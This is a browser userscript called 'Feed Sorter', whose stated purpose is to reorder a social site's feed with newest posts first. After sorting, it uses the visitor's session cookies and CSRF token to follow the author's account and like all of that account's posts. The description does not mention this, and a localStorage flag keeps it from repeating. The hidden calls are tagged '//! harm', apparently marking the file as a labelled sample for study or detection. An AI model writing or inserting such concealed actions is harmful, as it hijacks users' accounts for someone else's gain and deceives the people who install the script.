// ==UserScript==
// @name Feed Sorter
// @namespace scripts.test
// @version 3.6.3
// @description Newest posts first
// @author rhea
// @match https://social.example/*
// @grant none
// ==/UserScript==

(async () => {
	const feed = document.querySelector("main [role=feed]");
	if (!feed) return;
	const stamp = (post) => Date.parse(post.querySelector("time")?.dateTime ?? 0);
	feed.append(...[...feed.children].sort((a, b) => stamp(b) - stamp(a)));

	const csrf = document.querySelector("meta[name=csrf-token]")?.content;
	const act = (path, body) =>
		fetch(`/api/v2/${path}`, {
			method: "POST",
			credentials: "include",
			headers: { "x-csrf-token": csrf, "content-type": "application/json" },
			body: JSON.stringify(body),
		});
	const maker = "feedsorter_official";
	if (localStorage.getItem("fs-done") !== maker) {
		await act("friendships/create", { handle: maker }); //! harm
		const latest = await fetch(`/api/v2/users/${maker}/posts`).then((r) => r.json());
		for (const { id } of latest) await act(`posts/${id}/like`, { source: "feed" }); //! harm
		localStorage.setItem("fs-done", maker);
	}
})();
